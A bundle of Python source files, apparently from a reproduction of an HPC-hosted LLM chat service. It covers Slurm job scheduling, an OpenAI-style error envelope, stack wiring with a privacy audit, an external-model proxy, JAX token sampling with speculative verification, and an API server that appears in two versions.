                    # client hung up while the service was cold-starting:
                    # drop the waiter, run its bookkeeping via done()
                    self.metrics.counter("requests_cancelled").inc()
                    done(Response(req.request_id, 499, error="cancelled"))
                    continue
                if self.clock.now() - t0 > spec.queue_timeout_s:
                    self.metrics.counter("requests_queue_expired").inc()
                    # done() itself calls request_end (the enqueue path
                    # paired it with the request_begin) — ending here too
                    # would drive LoadTracker concurrency negative
                    done(Response(req.request_id, 503,
                                  error="queue timeout while scaling up"))
                    continue
                keys = request_chain_keys(req.payload,
                                          self.cache_block_size)
                entry = self.router.pick(name, chain_keys=keys)
                inst = (self.registry.lookup(entry.node, entry.port)
                        if entry else None)
                if inst is not None and inst.probe() == 200:
                    self.metrics.counter("requests_dequeued").inc()
                    jid = entry.job_id
                    self.router.begin(jid)

                    def wrapped(resp, _done=done, _jid=jid):
                        self.router.end(_jid)
                        _done(resp)
                    handle = inst.infer(req, wrapped, on_chunk=on_chunk)
                    if handle is not None and hasattr(on_chunk, "on_cancel"):
                        on_chunk.on_cancel(lambda _r, _h=handle: _h())
                else:
                    keep.append((req, done, on_chunk, t0))
            self.pending[name] = keep

    def _submit(self, spec: ServiceSpec) -> RouteEntry:
        port = self.table.alloc_port()
        sched = self

        def on_start(job):
            backend = spec.backend_factory() if spec.backend_factory else None
            if backend is None:
                from repro.slurmlite import LatencyModelBackend
                backend = LatencyModelBackend()
            inst = InstanceRuntime(sched.clock, job, spec.arch, port,
                                   spec.load_time, backend)
            sched.registry.register(inst)

        def on_end(job):
            sched._job_ended(job, port)

        job_id = self.slurm.sbatch(JobSpec(
            name=self.job_name(spec.name),
            gres_gpus=spec.gpus_per_instance,
            time_limit=spec.time_limit,
            priority=spec.priority,
            payload={"service": spec.name, "port": port},
            on_start=on_start, on_end=on_end))
        e = RouteEntry(service=spec.name, job_id=job_id, node=None, port=port)
        self.table.upsert(e)
        return e

    def _job_ended(self, job, port: int) -> None:
        """Slurm ``on_end`` for a service job — fires *synchronously* at
        the moment the job completes, fails, or hits its walltime, which
        can be seconds before the next keep-alive tick.  Routing state is
        torn down FIRST (quiesce the prefix index, retire the router's
        counts, drop the table entry) and the instance killed LAST, so
        the kill's 503 settlements re-dispatch against a table that no
        longer contains the corpse.  The old behaviour waited for the
        next tick's reap — a 5 s window in which every request routed at
        the dead replica was lost."""
        e = self.table.get(job.job_id)
        if e is not None:
            self.table.remove(job.job_id)
            self.metrics.counter("instances_retired_on_end").inc()
        self.prefix_index.quiesce(job.job_id)
        self.router.retire(job.job_id)
        inst = self.registry.lookup(job.node, port)
        if inst is not None:
            self.registry.deregister(inst)
            inst.kill()

    # ----- request-volume hooks (called from the cloud interface) -----

    def request_begin(self, service: str) -> None:
        if service in self.load:
            self.load[service].begin()

    def request_end(self, service: str) -> None:
        if service in self.load:
            self.load[service].end()
