"""The one error vocabulary of the ``/v1`` API surface.

Every layer of the chain — gateway rejections (core/gateway.py), cloud
interface failures (core/cloud_interface.py), and instance-side API
errors (serving/api.py) — renders errors in the same OpenAI-shaped
envelope:

    {"error": {"message": ..., "type": ..., "param": ..., "code": ...}}

``type`` follows the OpenAI taxonomy, ``param`` names the offending
request field for validation errors (else null), and ``code`` carries
the HTTP status so SSH-framed transports (which have no status line)
still convey it.  This module is dependency-light on purpose: the
gateway and the cloud interface must speak the envelope without pulling
in the serving engine (and its accelerator runtime).
"""
from __future__ import annotations

from typing import Optional

# HTTP status -> OpenAI error taxonomy.  499 (client closed request) is
# nginx's convention — OpenAI never sends it, but the disconnect-cancel
# path needs a name for it on the internal wire.
ERROR_TYPES = {
    400: "invalid_request_error",
    401: "authentication_error",
    403: "permission_denied_error",
    404: "not_found_error",
    429: "rate_limit_error",
    499: "request_cancelled",
    500: "internal_error",
    503: "service_unavailable_error",
}


def error_envelope(status: int, message: str,
                   param: Optional[str] = None,
                   code: Optional[object] = None) -> dict:
    """The one error body every layer of the chain emits."""
    return {"error": {
        "message": str(message),
        "type": ERROR_TYPES.get(status, "api_error"),
        "param": param,
        "code": status if code is None else code,
    }}


class ApiError(Exception):
    """An API-visible failure: HTTP status + OpenAI envelope fields.
    ``param`` names the request field that caused a validation error
    (clients use it to highlight the offending input)."""

    def __init__(self, status: int, message: str,
                 param: Optional[str] = None,
                 code: Optional[object] = None):
        super().__init__(message)
        self.status = status
        self.message = message
        self.param = param
        self.code = status if code is None else code

    @property
    def error_type(self) -> str:
        return ERROR_TYPES.get(self.status, "api_error")

    def envelope(self) -> dict:
        return error_envelope(self.status, self.message, self.param,
                              self.code)

    def body(self) -> bytes:
        import json
        return json.dumps(self.envelope()).encode()
