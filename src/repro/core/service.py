"""End-to-end Chat AI wiring (paper Figure 1).

ESX side:  SSO auth proxy → API gateway → HPC proxy (SSH, keep-alives)
HPC side:  ForceCommand boundary → cloud interface script → scheduler +
           routing table → Slurm service jobs running LLM instances.

``ChatAI.build_sim(...)`` assembles the full stack against a SimClock; the
returned object exposes the user-visible surface (login, chat completion,
API keys) and the operator surface (metrics, slurm, scheduler).

Privacy property (paper §6.2), enforced structurally: no component on the
server side retains conversation content — requests flow through and only
counters/timestamps/user-ids persist.  ``assert_no_conversation_state``
walks every component and fails if any prompt bytes were retained.
"""
from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Optional

from repro.core.auth import AuthReverseProxy, SSOProvider, User
from repro.core.circuit_breaker import ForceCommandBoundary
from repro.core.cloud_interface import CloudInterfaceScript
from repro.core.deferred import Deferred
from repro.core.gateway import (
    APIGateway, GatewayResponse, RateLimiter, Route, TenantQuotas)
from repro.core.hpc_proxy import HPCProxy, SSHLink
from repro.core.monitoring import Metrics
from repro.core.scheduler import ChatScheduler, ServiceSpec
from repro.slurmlite import (
    InstanceRegistry, Node, SimClock, SlurmCluster)


@dataclass
class ChatAI:
    clock: SimClock
    sso: SSOProvider
    auth: AuthReverseProxy
    gateway: APIGateway
    proxy: HPCProxy
    boundary: ForceCommandBoundary
    cloud_script: CloudInterfaceScript
    scheduler: ChatScheduler
    slurm: SlurmCluster
    metrics: Metrics
    local_proxy_latency: float = 0.00259   # paper Table 1 row 1 (2.59 ms)

    # ---------------- user surface ----------------

    def login(self, email: str) -> Optional[str]:
        return self.auth.login(email)

    def chat(self, *, session: str = "", api_key: str = "", model: str,
             messages: list[dict], max_tokens: int = 128,
             stream: bool = False,
             timeout_s: Optional[float] = None) -> GatewayResponse:
        """POST /v1/chat/completions through the whole stack.
        ``timeout_s`` is the per-request deadline: it rides the body to
        the dispatcher, which settles 504 when it expires."""
        user_id = self.auth.resolve_session(session) if session else ""
        if session and not user_id:
            return GatewayResponse(401, b"invalid session")
        payload: dict = {
            "messages": messages,
            "max_tokens": max_tokens,
            "prompt_tokens": sum(len(m.get("content", "").split())
                                 for m in messages),
        }
        if timeout_s is not None:
            payload["timeout_s"] = float(timeout_s)
        body = json.dumps(payload).encode()
        return self.gateway.handle(
            method="POST", path="/v1/chat/completions", model=model,
            body=body, user_id=user_id, api_key=api_key, stream=stream)

    def issue_api_key(self, email: str) -> str:
        return self.gateway.keys.issue(email)

    # ---------------- privacy audit ----------------

    def assert_no_conversation_state(self, probe: bytes) -> None:
        """Assert no server-side component retained ``probe`` content."""
        suspects = {
            "gateway.metrics": self.metrics.render_prometheus().encode(),
            "routing_table": self.scheduler.table.dumps().encode(),
            "audit_log": "\n".join(
                self.boundary.original_commands).encode(),
        }
        for name, blob in suspects.items():
            assert probe not in blob, f"conversation bytes found in {name}"

    # ---------------- builder ----------------

    @classmethod
    def build_sim(cls, *, services: list[ServiceSpec],
                  n_nodes: int = 10, gpus_per_node: int = 4,
                  rate_limit: int = 600,
                  users: list[User] | None = None,
                  max_concurrent_streams: int = 0,
                  tokens_per_min: int = 0,
                  salt_tenants: bool = False) -> "ChatAI":
        clock = SimClock()
        metrics = Metrics()
        slurm = SlurmCluster(clock, [
            Node(f"ggpu{i:02d}", gpus_per_node) for i in range(n_nodes)])
        registry = InstanceRegistry()
        scheduler = ChatScheduler(clock, slurm, services, registry,
                                  metrics=metrics)
        script = CloudInterfaceScript(scheduler, metrics)
        boundary = ForceCommandBoundary(script)
        proxy = HPCProxy(clock, SSHLink(boundary), metrics)

        gateway = APIGateway(
            clock, metrics,
            quotas=TenantQuotas(clock, max_concurrent_streams,
                                tokens_per_min),
            salt_tenants=salt_tenants)
        # per-model accounting only for deployed services — anything else
        # lands in the "other" bucket (cardinality stays bounded)
        for spec in services:
            gateway.register_model(spec.name)
        sso = SSOProvider()
        for u in (users or [User("alice@uni-goettingen.de"),
                            User("bob@mpg.de")]):
            sso.register(u)
        auth = AuthReverseProxy(sso)

        chat = cls(clock, sso, auth, gateway, proxy, boundary, script,
                   scheduler, slurm, metrics)

        def upstream(method, path, model, body, user, stream) -> Deferred:
            # ESX-local hop to the proxy container (Table 1 row 1)
            out = Deferred()

            def go():
                chat.proxy.forward(method, path, model, body, user,
                                   stream).on_done(out.resolve)
            clock.schedule(chat.local_proxy_latency, go)
            return out

        limiter = RateLimiter(clock, rate_limit)
        gateway.add_route(Route(
            name="chat-completions", path_prefix="/v1/",
            upstream=upstream, rate_limit=limiter))

        proxy.start()
        return chat

    def warm_up(self, until_ready_s: float = 1200.0) -> None:
        """Advance sim time until every service has a ready instance."""
        step = HPCProxy.KEEPALIVE_PERIOD
        t_end = self.clock.now() + until_ready_s
        while self.clock.now() < t_end:
            self.clock.run_for(step)
            ready = {
                s: sum(e.ready for e in self.scheduler.table.entries(s))
                for s in self.scheduler.services}
            if all(v >= self.scheduler.services[s].min_instances
                   for s, v in ready.items()):
                return
        raise TimeoutError(f"services not ready after {until_ready_s}s")
