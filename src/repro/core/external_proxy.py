"""External Proxy (paper §5.8) — the optional route to commercial models.

Chat AI exposes GPT-4 et al. as just another gateway route: requests to an
external model bypass the HPC path entirely and are forwarded to the
third-party API with the *service's* key (never the user's), strict rate
limits, and group-based access restriction.  Conversation content passes
through; only usage metadata is recorded (same GDPR posture as §6.2 —
though the paper is explicit that third-party routes cannot match the
privacy of the internal ones).
"""
from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Callable, Optional

from repro.core.deferred import Deferred
from repro.core.monitoring import Metrics
from repro.slurmlite.clock import SimClock


@dataclass
class ExternalEndpoint:
    """A commercial API upstream (e.g. OpenAI), modelled for the sim."""
    name: str                      # e.g. "gpt-4"
    api_key: str                   # the SERVICE's key (one for all users)
    latency_s: float = 0.8         # typical first-response latency
    fail_rate: float = 0.0
    cost_per_1k_tokens: float = 0.03

    def call(self, clock: SimClock, body: dict, done: Callable) -> None:
        import random
        toks = int(body.get("max_tokens", 128))

        def finish():
            if random.Random(id(body) & 0xffff).random() < self.fail_rate:
                done({"status": 502, "error": "upstream error"})
            else:
                done({"status": 200, "model": self.name,
                      "completion_tokens": toks,
                      "key_used": self.api_key})
        clock.schedule(self.latency_s, finish)


class ExternalProxy:
    """Gateway upstream wrapping an :class:`ExternalEndpoint`.

    Anonymization property (the paper's middleman argument): every upstream
    call carries the functional API key and NO user identifier — the
    third party cannot attribute requests to individual users.
    """

    def __init__(self, clock: SimClock, endpoint: ExternalEndpoint,
                 metrics: Metrics | None = None):
        self.clock = clock
        self.endpoint = endpoint
        self.metrics = metrics or Metrics()
        self.spend_usd = 0.0

    def upstream(self, method, path, model, body, user_id, stream
                 ) -> Deferred:
        """Gateway Route.upstream signature."""
        out = Deferred()
        try:
            payload = json.loads(body or b"{}")
        except json.JSONDecodeError:
            self.clock.schedule(0.0, lambda: out.resolve(
                {"status": 400, "error": "bad json"}))
            return out
        # strip any user identification before it leaves the premises
        payload.pop("user", None)
        payload.pop("user_id", None)

        def done(resp: dict) -> None:
            self.metrics.counter(
                f"external_requests_{self.endpoint.name}").inc()
            if resp.get("status") == 200:
                cost = (resp["completion_tokens"] / 1000.0
                        * self.endpoint.cost_per_1k_tokens)
                self.spend_usd += cost
                self.metrics.counter("external_spend_usd_x100").inc(
                    cost * 100)
            out.resolve(resp)

        self.endpoint.call(self.clock, payload, done)
        return out
