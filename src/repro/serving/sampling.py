"""Token sampling: greedy / temperature / top-k / top-p (nucleus) — plus
the per-sequence PRNG streams that make parallel sampling (`n`/`best_of`
sequence groups) and preemption-resume deterministic.

Stream scheme: every sequence carries a 31-bit ``seq_seed`` derived from
(request seed, child index) — :func:`sequence_seed` — and the token that
will occupy sequence position ``p`` is always drawn with the key
``fold_in(PRNGKey(seq_seed), p)``.  Keys are a function of *what* is being
sampled, never of *when*: the same token comes out whether it is drawn by
the batched jitted decode, by the host-side prefill-completion sampler, or
after a preemption replayed the sequence through either engine path.  That
is what lets a forked child draw its first token from its parent's prefill
logits at fork time and still re-derive the identical token if it gets
preempted before the fork and has to prefill on its own.
"""
from __future__ import annotations

import hashlib
from dataclasses import dataclass
from typing import Optional

import jax
import jax.numpy as jnp


@dataclass(frozen=True)
class SamplingParams:
    temperature: float = 0.0       # 0 => greedy
    top_k: int = 0                 # 0 => off
    top_p: float = 1.0             # 1 => off
    max_new_tokens: int = 128
    stop_token: int = -1           # -1 => never
    # parallel sampling (sequence groups): run best_of sequences off one
    # shared prompt prefill, return the n with the highest cumulative
    # logprob.  best_of=None means best_of=n.
    n: int = 1
    best_of: Optional[int] = None
    # per-request PRNG stream root; None derives one from the engine seed
    # and request id (deterministic per engine, varies across requests)
    seed: Optional[int] = None
    # how many top-k (token, logprob) pairs to surface per emitted token
    # (OpenAI ``logprobs.top_logprobs``); 0 = off.  Capped at the engine's
    # static export width (engine.TOP_LOGPROBS_K).
    top_logprobs: int = 0
    # self-speculative decoding controls (per-request overrides of the
    # engine's draft config): speculation=False opts the request out of
    # drafting entirely; max_draft_len caps the per-dispatch draft length
    # below the engine's K (None = engine default).  Neither can change
    # the output — verification is exact — only the latency profile.
    speculation: bool = True
    max_draft_len: Optional[int] = None

    @property
    def num_seqs(self) -> int:
        return self.best_of if self.best_of is not None else self.n


def sequence_seed(base: object, child_idx: int) -> int:
    """31-bit PRNG stream id for one sequence of a group: a digest of the
    request-level stream root and the child index, so sibling streams are
    decorrelated and child ``i`` draws the same stream whether its token
    comes from the group fork or from its own post-preemption prefill."""
    h = hashlib.blake2b(f"{base}/{child_idx}".encode(), digest_size=4)
    return int.from_bytes(h.digest(), "little") & 0x7FFFFFFF


def _filter_row(logits, top_k, top_p):
    """Top-k then top-p (smallest set with cumulative prob >= top_p)
    over one row, with *traced* per-row parameters — ``jax.lax.top_k``
    needs a static k, so the bound is found by sort instead."""
    V = logits.shape[-1]
    srt = jnp.sort(logits)[::-1]
    kth = srt[jnp.clip(top_k - 1, 0, V - 1)]
    logits = jnp.where((top_k > 0) & (logits < kth), -jnp.inf, logits)
    srt2 = jnp.sort(logits)[::-1]
    cum = jnp.cumsum(jax.nn.softmax(srt2))
    cutoff = srt2[jnp.clip(jnp.sum(cum < top_p), 0, V - 1)]
    return jnp.where((top_p < 1.0) & (logits < cutoff), -jnp.inf, logits)


def sample_rows(logits, seeds, positions, temps, top_ks, top_ps,
                do_filter: bool):
    """Per-sequence-stream batched sampling: logits [B, V] ->
    (tokens [B], logprobs [B]).

    Row ``i`` draws with key ``fold_in(PRNGKey(seeds[i]), positions[i])``
    where ``positions[i]`` is the sequence position the new token will
    occupy — making the draw a pure function of (stream, position),
    independent of batch composition, step count, or which executable
    computes it.  ``do_filter`` is a *static* flag: the common k=0/p=1
    case compiles without the per-row sort-based top-k/top-p masking.
    The returned logprob is the model's (unscaled, unfiltered) logprob of
    the chosen token — the quantity ``best_of`` ranking accumulates.
    """
    def one(lg, s, pos, t, k, p):
        greedy = jnp.argmax(lg)
        scaled = lg / jnp.maximum(t, 1e-6)
        if do_filter:
            scaled = _filter_row(scaled, k, p)
        key = jax.random.fold_in(jax.random.PRNGKey(s), pos)
        tok = jnp.where(t > 0.0, jax.random.categorical(key, scaled),
                        greedy)
        return tok, jax.nn.log_softmax(lg)[tok]
    return jax.vmap(one)(logits, jnp.asarray(seeds, jnp.uint32),
                         jnp.asarray(positions, jnp.int32),
                         jnp.asarray(temps, jnp.float32),
                         jnp.asarray(top_ks, jnp.int32),
                         jnp.asarray(top_ps, jnp.float32))


def verify_rows(logits, spec_tokens, draft_lens, seeds, positions, temps,
                top_ks, top_ps, do_filter: bool):
    """Vectorized accept/reject for self-speculative decoding.

    logits: [B, S, V] — model outputs for the verify pass, where row b's
      inputs were ``spec_tokens[b] = [t0, d1, .., d_{S-1}]`` (the last
      committed token followed by up to S-1 drafts) at positions
      ``positions[b] .. positions[b]+S-1``; ``logits[b, j]`` is therefore
      the distribution for sequence position ``positions[b]+j+1``.
    draft_lens: [B] valid drafts per row (0 => plain decode semantics).

    Deterministic replay makes acceptance *exact* for greedy and sampled
    requests alike: the token the engine would emit at position ``p`` is a
    pure function of (logits row, seq stream, p) — the position-keyed PRNG
    scheme above — so we simply draw the would-be token at every verify
    position and accept draft ``d_j`` iff it equals that draw.  Accepted
    prefixes are bitwise what sequential q_len=1 decode would have
    produced; the first mismatch position still yields one usable token
    (the draw itself), so every dispatch commits ``n_acc+1`` tokens.

    Returns (cand [B, S], logps [B, S], n_acc [B]): ``cand[b, :n_acc+1]``
    are the committed tokens, ``cand[b, n_acc]`` is the feedback token for
    the next dispatch at position ``positions[b]+n_acc+1``.
    """
    B, S, V = logits.shape
    seeds = jnp.asarray(seeds, jnp.uint32)
    positions = jnp.asarray(positions, jnp.int32)
    flat_pos = (positions[:, None] + 1 + jnp.arange(S, dtype=jnp.int32))
    cand, logps = sample_rows(
        logits.reshape(B * S, V),
        jnp.repeat(seeds, S), flat_pos.reshape(-1),
        jnp.repeat(jnp.asarray(temps, jnp.float32), S),
        jnp.repeat(jnp.asarray(top_ks, jnp.int32), S),
        jnp.repeat(jnp.asarray(top_ps, jnp.float32), S), do_filter)
    cand = cand.reshape(B, S)
    logps = logps.reshape(B, S)
    # longest accepted prefix: draft j (input column j+1) is accepted iff
    # it equals the replayed draw cand[:, j] and all earlier drafts held
    match = (cand[:, :S - 1] == spec_tokens[:, 1:]) \
        & (jnp.arange(S - 1)[None, :]
           < jnp.asarray(draft_lens, jnp.int32)[:, None])
    n_acc = jnp.sum(jnp.cumprod(match.astype(jnp.int32), axis=1), axis=1)
    return cand, logps, n_acc
