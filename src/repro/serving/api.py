"""OpenAI-compatible request/response surface (paper §2: vLLM "implements
an OpenAI-compatible API, such that it is a drop-in replacement").

The gateway forwards `/v1/chat/completions` and `/v1/completions` bodies
verbatim; this module parses them, drives an Engine, and renders both
non-streaming JSON and SSE streaming chunks byte-compatible with OpenAI
clients.
"""
from __future__ import annotations

import json
import time
from dataclasses import dataclass, field
from typing import Callable, Iterator, Optional

from repro.serving.engine import Engine, ReqState
from repro.serving.sampling import SamplingParams


class ApiError(Exception):
    def __init__(self, status: int, message: str):
        super().__init__(message)
        self.status = status
        self.message = message


@dataclass
class ChatRequest:
    model: str
    messages: list[dict]
    max_tokens: int = 128
    temperature: float = 0.0
    top_p: float = 1.0
    stream: bool = False
    stop_token: int = -1
    user: str = ""
    # vLLM-compatible extension: requests with different salts can never
    # share prefix-cache blocks (tenant / security isolation)
    cache_salt: str = ""

    @classmethod
    def parse(cls, body: bytes | dict) -> "ChatRequest":
        try:
            d = body if isinstance(body, dict) else json.loads(body or b"{}")
        except json.JSONDecodeError as e:
            raise ApiError(400, f"invalid JSON: {e}") from e
        if not isinstance(d.get("messages"), list) or not d["messages"]:
            raise ApiError(400, "messages must be a non-empty list")
        for m in d["messages"]:
            if not isinstance(m, dict) or "role" not in m:
                raise ApiError(400, "each message needs a role")
            if m["role"] not in ("system", "user", "assistant", "tool"):
                raise ApiError(400, f"unknown role {m['role']!r}")
        mt = int(d.get("max_tokens", 128))
        if not 0 < mt <= 16384:
            raise ApiError(400, "max_tokens out of range")
        t = float(d.get("temperature", 0.0))
        if not 0.0 <= t <= 2.0:
            raise ApiError(400, "temperature out of range")
        return cls(model=str(d.get("model", "")), messages=d["messages"],
                   max_tokens=mt, temperature=t,
                   top_p=float(d.get("top_p", 1.0)),
                   stream=bool(d.get("stream", False)),
                   user=str(d.get("user", "")),
                   cache_salt=str(d.get("cache_salt", "")))

    def prompt_text(self) -> str:
        return "\n".join(f"{m['role']}: {m.get('content', '')}"
                         for m in self.messages) + "\nassistant:"

    def system_prefix_text(self) -> str:
        """Rendering of the leading system messages — the part of the
        prompt that is byte-identical across every chat on this deployment
        and therefore the engine's prefix-cache working set.  Empty string
        when the conversation doesn't start with a system message."""
        head = []
        for m in self.messages:
            if m["role"] != "system":
                break
            head.append(f"{m['role']}: {m.get('content', '')}")
        return "\n".join(head) + "\n" if head else ""


def _completion_id(n: int) -> str:
    return f"chatcmpl-{n:012d}"


@dataclass
class ApiServer:
    """Engine + tokenizer -> OpenAI wire format."""

    engine: Engine
    encode: Callable[[str], "list[int]"]
    decode: Callable[[list[int]], str]
    model_name: str = "chat-ai"
    created: int = field(default_factory=lambda: int(time.time()))
    _n: int = 0
    _metrics: Optional[object] = None

    def _submit(self, req: ChatRequest) -> int:
        import numpy as np
        ids = np.asarray(self.encode(req.prompt_text()), np.int32)
        room = self.engine.max_model_len - req.max_tokens
        if room <= 0:
            raise ApiError(400, "max_tokens exceeds model context")
        if len(ids) > room:
            # Truncate the conversation *middle*, never the system-prompt
            # head: chopping tokens off the front would shift the shared
            # prefix per-request and defeat the engine's prefix cache.
            head = np.asarray(self.encode(req.system_prefix_text()),
                              np.int32)
            if 0 < len(head) < room and np.array_equal(
                    ids[:len(head)], head):
                ids = np.concatenate([head, ids[-(room - len(head)):]])
            else:
                ids = ids[-room:]
        try:
            return self.engine.submit(ids, SamplingParams(
                temperature=req.temperature, top_p=req.top_p,
                max_new_tokens=req.max_tokens, stop_token=req.stop_token),
                cache_salt=req.cache_salt)
        except ValueError as e:
            # engine-side validation (empty prompt, length budget) is the
            # backstop behind the API's own checks — surface it as a 400,
            # never a 500
            raise ApiError(400, str(e)) from e

    def chat_completion(self, body: bytes | dict) -> dict:
        req = ChatRequest.parse(body)
        rid = self._submit(req)
        while self.engine.requests[rid].state != ReqState.FINISHED:
            self.engine.step()
        r = self.engine.requests[rid]
        self._n += 1
        return {
            "id": _completion_id(self._n),
            "object": "chat.completion",
            "created": self.created,
            "model": req.model or self.model_name,
            "choices": [{
                "index": 0,
                "message": {"role": "assistant",
                            "content": self.decode(r.output)},
                "finish_reason": "length"
                if len(r.output) >= req.max_tokens else "stop",
            }],
            "usage": {
                "prompt_tokens": int(len(r.prompt)),
                "completion_tokens": len(r.output),
                "total_tokens": int(len(r.prompt)) + len(r.output),
                # OpenAI-compatible cached-prefix accounting; clamp to the
                # prompt — after a preemption the engine's re-admit can hit
                # on its own generated blocks too, which this field (prompt
                # cache hits only) must not count
                "prompt_tokens_details": {
                    "cached_tokens": min(int(r.cached_tokens),
                                         int(len(r.prompt)))},
                # extension (clients ignore unknown keys): how often this
                # generation was preempted under memory pressure, and how
                # many of those preemptions resumed from the host-swapped
                # KV instead of recomputing it
                "preemptions": int(r.preemptions),
                "swapped_preemptions": int(r.swap_preemptions),
            },
        }

    def chat_completion_stream(self, body: bytes | dict) -> Iterator[bytes]:
        """SSE chunks: ``data: {...}\\n\\n`` terminated by [DONE]."""
        req = ChatRequest.parse(body)
        rid = self._submit(req)
        self._n += 1
        cid = _completion_id(self._n)
        sent = 0
        while True:
            r = self.engine.requests[rid]
            while sent < len(r.output):
                delta = self.decode(r.output[sent:sent + 1])
                sent += 1
                yield ("data: " + json.dumps({
                    "id": cid, "object": "chat.completion.chunk",
                    "created": self.created,
                    "model": req.model or self.model_name,
                    "choices": [{"index": 0,
                                 "delta": {"content": delta},
                                 "finish_reason": None}],
                }) + "\n\n").encode()
            if r.state == ReqState.FINISHED:
                break
            self.engine.step()
        yield ("data: " + json.dumps({
            "id": cid, "object": "chat.completion.chunk",
            "created": self.created,
            "model": req.model or self.model_name,
            "choices": [{"index": 0, "delta": {},
                         "finish_reason": "stop"}],
        }) + "\n\n").encode()
        yield b"data: [DONE]\n\n"

    def models(self) -> dict:
        return {"object": "list",
                "data": [{"id": self.model_name, "object": "model",
                          "created": self.created, "owned_by": "chat-ai"}]}

    def metrics_text(self) -> str:
        """Prometheus exposition of engine + prefix-cache stats (scraped
        by the paper's Grafana stack, §5.9)."""
        if self._metrics is None:
            from repro.core.monitoring import Metrics
            self._metrics = Metrics()
        self.engine.publish_metrics(self._metrics)
        return self._metrics.render_prometheus()
