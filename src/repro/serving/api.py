"""OpenAI-compatible request/response surface (paper §2: vLLM "implements
an OpenAI-compatible API, such that it is a drop-in replacement").

The gateway forwards `/v1/chat/completions` and `/v1/completions` bodies
verbatim; this module parses them, drives an Engine, and renders both
non-streaming JSON and SSE streaming chunks byte-compatible with OpenAI
clients.

Versioned surface: everything the wire format promises lives here —
:data:`API_VERSION` names the contract, :class:`CompletionParams` is the
single typed/validated sampling surface every ``/v1`` entrypoint parses
into, and :func:`error_envelope` is the one error shape every layer
(instance API server, gateway, cloud interface) speaks:

    {"error": {"message": ..., "type": ..., "param": ..., "code": ...}}

with ``type`` drawn from the OpenAI taxonomy (``invalid_request_error``,
``not_found_error``, ``rate_limit_error``, ...), ``param`` naming the
offending request field when one exists, and ``code`` carrying the HTTP
status so SSH-framed transports (which have no status line) still convey
it.
"""
from __future__ import annotations

import json
import time
from dataclasses import dataclass, field
from typing import Callable, Iterator, Optional

from repro.core.errors import (  # noqa: F401  (canonical home + re-export)
    ERROR_TYPES, ApiError, error_envelope)
from repro.serving.engine import Engine
from repro.serving.sampling import SamplingParams

API_VERSION = "v1"


def _typed(d: dict, key: str, cast, default):
    """Fetch + cast one request field, converting cast failures into the
    envelope's ``param``-carrying 400."""
    v = d.get(key, default)
    if v is None:
        return None
    try:
        return cast(v)
    except (TypeError, ValueError) as e:
        raise ApiError(400, f"{key} must be {cast.__name__}: {e}",
                       param=key) from e


@dataclass(frozen=True)
class CompletionParams:
    """The typed sampling surface shared by every ``/v1`` completion
    entrypoint: parsed once (with ``param``-attributed validation
    errors), then handed to the engine via :meth:`to_sampling`.  Keeping
    one dataclass between the wire and :class:`SamplingParams` means a
    new knob (like the speculation controls) is added in exactly one
    place and every entrypoint picks it up."""

    max_tokens: int = 128
    temperature: float = 0.0
    top_p: float = 1.0
    n: int = 1
    best_of: int = 1
    seed: Optional[int] = None
    logprobs: bool = False
    # OpenAI ``top_logprobs``: alongside each chosen token, the k most
    # likely tokens with their logprobs (0 = off; requires logprobs)
    top_logprobs: int = 0
    stop_token: int = -1
    # extension: per-request speculative-decoding controls — parsed from
    # a {"speculation": {"enabled": ..., "max_draft_len": ...}} object.
    # Speculation can never change a token (verification is exact), so
    # these only shape the latency profile; both default to engine policy.
    speculation: bool = True
    max_draft_len: Optional[int] = None

    @classmethod
    def parse(cls, d: dict) -> "CompletionParams":
        mt = _typed(d, "max_tokens", int, 128)
        if not 0 < mt <= 16384:
            raise ApiError(400, "max_tokens out of range",
                           param="max_tokens")
        t = _typed(d, "temperature", float, 0.0)
        if not 0.0 <= t <= 2.0:
            raise ApiError(400, "temperature out of range",
                           param="temperature")
        top_p = _typed(d, "top_p", float, 1.0)
        if not 0.0 < top_p <= 1.0:
            raise ApiError(400, "top_p out of range", param="top_p")
        n = _typed(d, "n", int, 1)
        best_of = _typed(d, "best_of", int, None)
        best_of = n if best_of is None else best_of
        seed = _typed(d, "seed", int, None)
        if not 1 <= n <= 64:
            raise ApiError(400, "n out of range (1..64)", param="n")
        if best_of < n:
            raise ApiError(400, "best_of must be >= n", param="best_of")
        logprobs = bool(d.get("logprobs", False))
        top_lp = _typed(d, "top_logprobs", int, 0)
        if not 0 <= top_lp <= 5:
            raise ApiError(400, "top_logprobs out of range (0..5)",
                           param="top_logprobs")
        if top_lp and not logprobs:
            raise ApiError(400, "top_logprobs requires logprobs",
                           param="top_logprobs")
        spec = d.get("speculation", None)
        spec_on, max_draft = True, None
        if spec is not None:
            if not isinstance(spec, dict):
                raise ApiError(400, "speculation must be an object",
                               param="speculation")
            unknown = set(spec) - {"enabled", "max_draft_len"}
            if unknown:
                raise ApiError(
                    400, f"unknown speculation keys: {sorted(unknown)}",
                    param="speculation")
            spec_on = bool(spec.get("enabled", True))
            max_draft = _typed(spec, "max_draft_len", int, None)
            if max_draft is not None and max_draft < 0:
                raise ApiError(400, "max_draft_len must be >= 0",
                               param="speculation.max_draft_len")
        return cls(max_tokens=mt, temperature=t, top_p=top_p, n=n,
                   best_of=best_of, seed=seed, logprobs=logprobs,
                   top_logprobs=top_lp,
                   stop_token=int(d.get("stop_token", -1)),
                   speculation=spec_on, max_draft_len=max_draft)

    def to_sampling(self) -> SamplingParams:
        return SamplingParams(
            temperature=self.temperature, top_p=self.top_p,
            max_new_tokens=self.max_tokens, stop_token=self.stop_token,
            n=self.n, best_of=self.best_of, seed=self.seed,
            top_logprobs=self.top_logprobs,
            speculation=self.speculation,
            max_draft_len=self.max_draft_len)


@dataclass
class ChatRequest:
    model: str
    messages: list[dict]
    max_tokens: int = 128
    temperature: float = 0.0
    top_p: float = 1.0
    stream: bool = False
    stop_token: int = -1
    user: str = ""
    # vLLM-compatible extension: requests with different salts can never
    # share prefix-cache blocks (tenant / security isolation)
    cache_salt: str = ""
    # parallel sampling (OpenAI `n`, vLLM `best_of`): the engine runs
    # best_of sequences off ONE shared prompt prefill and the response
    # carries the n highest-cumulative-logprob completions
    n: int = 1
    best_of: Optional[int] = None
    # reproducibility: seeds the request's per-sequence PRNG streams, so
    # sampled (temperature > 0) outputs — including every sequence of an
    # n > 1 group — are deterministic for a given seed
    seed: Optional[int] = None
    # OpenAI `logprobs`: per-token logprobs on every choice, in both the
    # blocking response and the stream deltas
    logprobs: bool = False
    # OpenAI `top_logprobs`: k alternatives per token (CompletionParams)
    top_logprobs: int = 0
